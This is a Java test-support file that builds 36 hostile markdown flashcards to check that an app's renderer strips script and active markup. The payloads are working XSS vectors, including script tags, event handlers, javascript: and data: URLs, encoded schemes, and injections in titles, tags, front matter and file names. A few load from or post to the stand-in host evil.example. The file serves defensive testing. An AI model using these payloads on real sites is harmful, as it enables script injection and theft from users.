package dev.gradientdeck.safety;

import java.util.List;

/** Hostile card files: each tries to run script or leave active markup, from a different place in the file. */
final class AttackCorpus {
    record Attack(String name, String file, String text) {}

    private AttackCorpus() {}

    private static String card(String title, String question, String answer) {
        return "# " + title + "\n#Tags: #Attack\n\n# Question\n" + question + "\n\n# Answer\n" + answer + "\n";
    }

    static List<Attack> all() {
        String ok = "An ordinary sentence.";
        return List.of(
                new Attack("script tag", "a01.md", card("Script", "<script>window.pwned=1</script>", ok)),
                new Attack(
                        "script in answer",
                        "a02.md",
                        card("Script 2", ok, "<SCRIPT SRC=//evil.example/x.js></SCRIPT>")),
                new Attack("img onerror", "a03.md", card("Img", "<img src=x onerror=\"window.pwned=1\">", ok)),
                new Attack("body onload", "a04.md", card("Body", "<body onload=window.pwned=1>", ok)),
                new Attack("svg onload", "a05.md", card("Svg", "<svg onload=window.pwned=1><circle r=5/></svg>", ok)),
                new Attack(
                        "svg script", "a06.md", card("Svg script", "<svg><script>window.pwned=1</script></svg>", ok)),
                new Attack(
                        "mathml href",
                        "a07.md",
                        card("MathML", "<math><mtext><a href=\"javascript:window.pwned=1\">x</a></mtext></math>", ok)),
                new Attack("javascript link", "a08.md", card("JS link", "[click](javascript:window.pwned=1)", ok)),
                new Attack(
                        "javascript link encoded",
                        "a09.md",
                        card("JS link 2", "[click](jav&#x09;ascript:window.pwned=1)", ok)),
                new Attack(
                        "data url link",
                        "a10.md",
                        card(
                                "Data link",
                                "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
                                ok)),
                new Attack(
                        "data url image",
                        "a11.md",
                        card("Data img", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", ok)),
                new Attack(
                        "iframe", "a12.md", card("Iframe", "<iframe src=\"javascript:window.pwned=1\"></iframe>", ok)),
                new Attack(
                        "object embed",
                        "a13.md",
                        card("Object", "<object data=\"x.swf\"></object><embed src=\"x.swf\">", ok)),
                new Attack(
                        "style injection",
                        "a14.md",
                        card(
                                "Style",
                                "<style>body{background:url(javascript:window.pwned=1)}</style><p style=\"background:url(javascript:x)\">s</p>",
                                ok)),
                new Attack(
                        "html comment trick",
                        "a15.md",
                        card("Comment", "<!-- --><script>window.pwned=1</script><!-- -->", ok)),
                new Attack("cdata trick", "a16.md", card("CDATA", "<![CDATA[<script>window.pwned=1</script>]]>", ok)),
                new Attack(
                        "form and input",
                        "a17.md",
                        card(
                                "Form",
                                "<form action=\"https://evil.example\"><input name=q autofocus onfocus=window.pwned=1></form>",
                                ok)),
                new Attack(
                        "meta refresh",
                        "a18.md",
                        card("Meta", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:window.pwned=1\">", ok)),
                new Attack("base tag", "a19.md", card("Base", "<base href=\"https://evil.example/\">", ok)),
                new Attack(
                        "attack in inline math",
                        "a20.md",
                        card("Math", "$</span><script>window.pwned=1</script>$", ok)),
                new Attack(
                        "attack in display math",
                        "a21.md",
                        card(
                                "Math 2",
                                "$$\n\\href{javascript:window.pwned=1}{x}<img src=x onerror=window.pwned=1>\n$$",
                                ok)),
                new Attack("attack in title", "a22.md", card("<script>window.pwned=1</script> Title", ok, ok)),
                new Attack(
                        "attack in tags",
                        "a23.md",
                        "# Tags\n#Tags: #<script>window.pwned=1</script> #\"onmouseover=window.pwned=1\n# Question\nq\n"),
                new Attack(
                        "attack in front matter title",
                        "a24.md",
                        "---\ntitle: \"<img src=x onerror=window.pwned=1>\"\ndeck: \"<script>window.pwned=1</script>\"\n---\n# Question\nq\n"),
                new Attack(
                        "attack in front matter tags",
                        "a25.md",
                        "---\ntags: [\"<svg onload=window.pwned=1>\"]\n---\n# T\n# Question\nq\n"),
                new Attack(
                        "javascript paper url",
                        "a26.md",
                        card("Paper", ok, ok)
                                + "\n# Papers read\n- [Evil paper](javascript:window.pwned=1)\n    - summary <script>window.pwned=1</script>\n"),
                new Attack(
                        "paper title markup",
                        "a27.md",
                        card("Paper 2", ok, ok)
                                + "\n# Papers read\n- [<img src=x onerror=window.pwned=1>](https://example.org)\n    - fine\n"),
                new Attack(
                        "attack in other section heading",
                        "a28.md",
                        card("Section", ok, ok) + "\n# <script>window.pwned=1</script>\nbody\n"),
                new Attack(
                        "attack in key points",
                        "a29.md",
                        card("Key points", ok, ok)
                                + "\n# Key points\n- <img src=x onerror=window.pwned=1>\n- $<svg onload=window.pwned=1>$\n"),
                new Attack("attack in file name", "a30<script>window.pwned=1<!script>.md", card("File name", ok, ok)),
                new Attack("autolink javascript", "a31.md", card("Autolink", "<javascript:window.pwned=1>", ok)),
                new Attack(
                        "anchor with target and event",
                        "a32.md",
                        card(
                                "Anchor",
                                "<a href=\"https://example.org\" target=\"_blank\" onclick=\"window.pwned=1\">x</a>",
                                ok)),
                new Attack(
                        "table cell handler",
                        "a33.md",
                        card("Table", "| a |\n|---|\n| <td onmouseover=window.pwned=1>x |", ok)),
                new Attack(
                        "srcdoc and formaction",
                        "a34.md",
                        card(
                                "Srcdoc",
                                "<iframe srcdoc=\"<script>window.pwned=1</script>\"></iframe><button formaction=javascript:x>b</button>",
                                ok)),
                new Attack(
                        "unicode escapes",
                        "a35.md",
                        card(
                                "Unicode",
                                "<a href=\"\\u006aavascript:window.pwned=1\">x</a><a href=\"&#106;avascript:window.pwned=1\">y</a>",
                                ok)),
                new Attack(
                        "reference link javascript",
                        "a36.md",
                        card("Ref link", "[x][evil]\n\n[evil]: javascript:window.pwned=1", ok)));
    }
}
